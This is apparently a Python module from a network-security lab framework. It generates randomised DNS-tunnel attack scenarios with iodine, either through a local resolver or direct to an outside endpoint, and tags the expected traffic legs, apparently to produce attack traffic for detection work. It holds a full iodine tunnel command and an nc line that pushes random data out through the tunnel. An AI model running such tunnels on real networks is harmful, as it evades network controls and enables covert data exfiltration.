# SPDX-License-Identifier: Apache-2.0
"""A tunnel through DNS by iodine: from a client, through the network's own resolver or straight, to a far end outside."""

from __future__ import annotations

from random import Random

from lab.scenarios.attack.targets import far_end
from lab.scenarios.scenario import ICMP4, UDP, Attack, AttackDraft, Leg, Scene
from lab.services import iodined, sink


def draw(scene: Scene, chance: Random) -> AttackDraft | None:
    network = scene.network
    end, resolvers = far_end(scene, chance, "iodined"), network.serving("unbound")
    if end is None or not resolvers:
        return None
    straight = chance.random() < 0.3
    own, resolver, far = network.address4(scene.host), network.address4(resolvers[0]), network.address4(end)
    kind, lazy, length = (
        chance.choice(("NULL", "TXT", "CNAME", "MX", "SRV")),
        chance.randint(0, 1),
        chance.randint(25, 45),
    )
    # -m: without it iodine spends ten seconds on finding the size; the device's name must be free.
    command = (
        f"iodine -f -r -P {iodined.PASSWORD} -T {kind} -L {lazy} -I {chance.randint(1, 4)} -m {chance.choice((200, 400, 700))} -d dns$(($$ % 90)) "
        f"{far if straight else resolver} {iodined.zone(network)} & tunnel=$!\nsleep 5\n{_inner(chance)}\nsleep {length // 4}\nkill $tunnel; wait"
    )
    if straight:
        legs: tuple[Leg, ...] = (Leg(own, far, UDP, 53), Leg(own, far, ICMP4))
    else:
        # Answers that come after the client's end are refused with an ICMP unreachable.
        legs = (
            Leg(own, resolver, UDP, 53, port_of="iodine"),
            Leg(own, resolver, ICMP4),
            Leg(resolver, far, UDP, 53),
            Leg(resolver, far, ICMP4),
        )
    return AttackDraft(
        "tunnel",
        "iodine",
        f"{kind}; lazy={lazy}; {'straight' if straight else 'through resolver'}",
        command,
        length + 25,
        legs,
    )


def _inner(chance: Random) -> str:
    """What goes through the tunnel."""
    pings = f"ping -i {chance.choice((0.3, 1, 2))} -c {chance.randint(5, 20)} -w 20 {iodined.INNER}"
    drop = f"head -c {chance.randint(3000, 40000)} /dev/urandom | nc -N -w 15 {iodined.INNER} {sink.PORTS[0]}"
    return chance.choice((pings, drop, f"{pings} & {drop}; sleep 1"))


ATTACKS = (Attack("dns-tunnel", draw, inside=True, weight=5),)
